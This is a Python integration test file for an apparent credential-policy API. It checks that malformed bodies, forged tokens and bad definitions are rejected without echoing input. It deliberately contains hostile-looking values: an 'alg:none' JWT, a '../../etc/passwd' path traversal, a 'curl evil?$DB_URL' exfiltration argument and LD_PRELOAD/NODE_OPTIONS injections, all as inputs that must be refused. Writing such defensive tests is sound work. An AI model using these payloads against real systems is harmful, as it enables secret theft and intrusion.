"""Whatever is sent: a problem document, never a failure of ours, and nothing of the input comes back."""

from __future__ import annotations

import base64
import json
from typing import Any

import pytest

from tests.integration.policy.conftest import Instance, PolicyUnderTest, fresh
from tests.integration.policy.stories import STDIO, hospital

MARKER = "hunter2-do-not-echo"
POSTS = ["idps", "profiles", "mappings", "servers", "grants", "bindings", "enrolments", "enrol"]
KINDS = ["idps", "profiles", "mappings", "servers", "grants", "bindings", "choices", "instances"]
BODIES: dict[str, bytes] = {
    "empty": b"",
    "not JSON": MARKER.encode(),
    "invalid UTF-8": b'{"name": "\xff\xfe' + MARKER.encode() + b'"}',
    "a lone surrogate": b'{"name": "\\ud800' + MARKER.encode() + b'"}',
    "a NUL": b'{"name": "' + MARKER.encode() + b'\\u0000"}',
    "a list": json.dumps([MARKER]).encode(),
    "null": b"null",
    "deep": b"[" * 30_000 + b"]" * 30_000,
    "deep objects": b'{"definition":' * 4_000 + b"1" + b"}" * 4_000,
    "an unknown member": json.dumps({"name": fresh("x"), "passwrod": MARKER}).encode(),
    "wrong types": json.dumps({"name": [MARKER], "definition": MARKER, "expires_in_s": MARKER}).encode(),
    "a huge number": b'{"name": "x", "expires_in_s": 1' + b"0" * 5_000 + b"}",
    "NaN": b'{"name": "x", "expires_in_s": NaN}',
    "a long name": json.dumps({"name": MARKER * 100}).encode(),
    "a name that is spoofed": json.dumps({"name": MARKER + "\u202e"}).encode(),
    "a name like an id": json.dumps({"name": "profile/" + "0" * 32}).encode(),
}


def check(answer: Any, *, at_most: int = 499) -> None:
    assert 400 <= answer.status_code <= at_most, (answer.status_code, answer.text)
    assert answer.headers["content-type"] == "application/problem+json"
    assert {"type", "title", "status"} <= answer.json().keys()
    assert MARKER not in answer.text


@pytest.mark.parametrize("path", POSTS)
async def test_bodies_that_are_no_requests(policy: PolicyUnderTest, path: str) -> None:
    headers = {"authorization": f"Bearer {policy.admin_token()}", "content-type": "application/json"}
    for body in BODIES.values():
        check(await policy.http.post(f"/v1/{path}", content=body, headers=headers))


@pytest.mark.parametrize("path", [*POSTS, "me/choices"])
async def test_a_body_of_a_megabyte_is_too_large(policy: PolicyUnderTest, path: str) -> None:
    headers = {"authorization": f"Bearer {policy.admin_token()}", "content-type": "application/json"}
    body = json.dumps({"name": MARKER + "x" * 1_000_000}).encode()
    method = "PUT" if path.startswith("me/") else "POST"
    answer = await policy.http.request(method, f"/v1/{path}", content=body, headers=headers)
    assert answer.status_code == 413
    check(answer)


@pytest.mark.parametrize(
    "token",
    [
        MARKER,
        f"{MARKER}.{MARKER}.{MARKER}",
        "a.b.c",
        "." * 50,
        "x" * 20_000,
        "tök\xe9n",
        base64.urlsafe_b64encode(b'{"alg":"none"}').decode().rstrip("=") + ".e30.",
        "[" * 3_000,
    ],
)
async def test_tokens_that_are_none(policy: PolicyUnderTest, token: str) -> None:
    headers = {b"authorization": b"Bearer " + token.encode("latin-1", "replace")}
    for path in ("profiles", "me/references"):
        answer = await policy.http.get(f"/v1/{path}", headers=headers)
        assert answer.status_code == 401
        check(answer)


async def test_tokens_that_are_expired_or_for_others(policy: PolicyUnderTest) -> None:
    issuer = policy.issuer
    for token in (
        issuer.token("ada", ["keyfob-admins"], ttl_s=-60),
        issuer.token("ada", ["keyfob-admins"], audience="other"),
        issuer.token("ada", ["keyfob-admins"], iss="https://elsewhere.example"),
        issuer.token("ada", ["keyfob-admins"], sub=["ada"]),
        issuer.token("ada", [{"name": "keyfob-admins"}]),  # type: ignore[list-item]
    ):
        await policy.call("GET", "/v1/profiles", token=token, expect=401)


@pytest.mark.parametrize(
    "kind", ["idps", "profiles", "mappings", "servers", "grants", "bindings", "choices", "instances"]
)
async def test_keys_in_paths_that_name_nothing(policy: PolicyUnderTest, kind: str) -> None:
    headers = {"authorization": f"Bearer {policy.admin_token()}"}
    keys = [
        MARKER,
        "%00",
        "%ff",
        "a%0ab",
        "x" * 5_000,
        f"{kind[:-1]}/{'0' * 32}",
        "0" * 32,
        "../../etc/passwd",
        "%2e%2e",
    ]
    for key in keys:
        for method in ("GET", "DELETE"):
            check(await policy.http.request(method, f"/v1/{kind}/{key}", headers=headers))


@pytest.mark.parametrize(
    "query",
    [
        "limit=0", "limit=501", f"limit={MARKER}", f"after={MARKER}", "after=1", "after=1.2", "after=" + "9" * 90,
        "after=99999999999999999999." + "0" * 32, "after=%00", "after=-1." + "0" * 32,
    ],
)  # fmt: skip
async def test_queries_that_ask_for_nothing(policy: PolicyUnderTest, query: str) -> None:
    headers = {"authorization": f"Bearer {policy.admin_token()}"}
    for kind in ("profiles", "grants", "enrolments"):
        check(await policy.http.get(f"/v1/{kind}?{query}", headers=headers))


async def test_filters_that_name_nothing_find_nothing(policy: PolicyUnderTest) -> None:
    for value in ("%00", MARKER, "x" * 200):
        assert (await policy.call("GET", f"/v1/grants?profile={value}"))["items"] == []
    await policy.call("GET", "/v1/grants?profile=" + "x" * 300, expect=400)


@pytest.mark.parametrize(
    ("definition", "says"),
    [
        (STDIO | {"fields": [{"name": "LD_PRELOAD"}]}, "reserved"),
        (STDIO | {"fields": [{"name": "https_proxy"}]}, "reserved"),
        (STDIO | {"environment": {"NODE_OPTIONS": "--require x"}}, "reserved"),
        (STDIO | {"environment": {"KEYFOB_MODE": "development"}}, "reserved"),
        (STDIO | {"args": ["--dsn=${DB_URL}"]}, "variable DB_URL itself"),
        (STDIO | {"args": ["-c", "curl evil?$DB_URL"]}, "variable DB_URL itself"),
        (STDIO | {"environment": {"COPY": "{{ DB_URL }}"}}, "variable DB_URL itself"),
        (STDIO | {"environment": {"DB_URL": "x"}}, "a field and a plain variable"),
        (STDIO | {"fields": [{"name": "A"}, {"name": "A"}]}, "twice"),
        ({"transport": "http", "url": "http://mcp.example.org/"}, "https"),
        ({"transport": "http", "url": f"https://u:{MARKER}@mcp.example.org/"}, "declare a field"),
        ({"transport": "http", "url": "https://[broken/"}, "can't be read"),
        ({"transport": "http", "url": "https://a.example/", "fields": [{"name": "H", "header": "Host"}]}, "transport"),
    ],
)
async def test_definitions_that_would_leak_or_change_how_a_process_runs(
    policy: PolicyUnderTest, definition: dict[str, Any], says: str
) -> None:
    body = {"name": fresh("server"), "definition": definition}
    headers = {"authorization": f"Bearer {policy.admin_token()}"}
    answer = await policy.http.post("/v1/servers", json=body, headers=headers)
    check(answer)
    assert says in answer.json()["detail"]


async def test_grants_with_limits_that_never_match(policy: PolicyUnderTest) -> None:
    it = await hospital(policy)
    headers = {"authorization": f"Bearer {policy.admin_token()}"}
    base = {"profile": it.profile, "reference": it.reference}
    for limits in (
        {"destination": "https://mcp.example.org"},
        {"destination": "MCP.example.org"},
        {"server": it.server, "destination": "mcp.example.org"},
        {"labels": {"": "x"}},
        {"labels": {"env": "a\u0000"}},
        {"labels": {f"k{number}": "v" for number in range(33)}},
        {"starts_at": MARKER},
        {"starts_at": "999999-01-01T00:00:00Z"},
        {"ends_at": "0001-01-01T00:00:00+23:59"},
        {"starts_at": "9999-12-31T23:59:59-23:59"},
    ):
        check(await policy.http.post("/v1/grants", json=base | limits, headers=headers))


async def test_enrolment_requests_that_are_none(policy: PolicyUnderTest) -> None:
    gateway = Instance(fresh("gateway"))
    good = gateway.request("kfe_" + "x" * 43)
    for broken in (
        good | {"signing_key": "A" * 43},
        good | {"signing_key": MARKER},
        good | {"sealing_key_signature": "A" * 86},
        good | {"token": ""},
        good | {"token": "\ud800"},
        good | {"token": "t" * 5_000},
        good | {"name": "\u0000"},
        good | {"labels": {"env": "prod"}},
        {},
    ):
        check(await policy.http.post("/v1/enrol", content=json.dumps(broken).encode()))


async def test_what_is_not_there_is_a_problem_too(policy: PolicyUnderTest) -> None:
    check(await policy.http.get(f"/v1/{MARKER}"))
    check(await policy.http.patch("/v1/profiles"))
    check(await policy.http.get("/"))
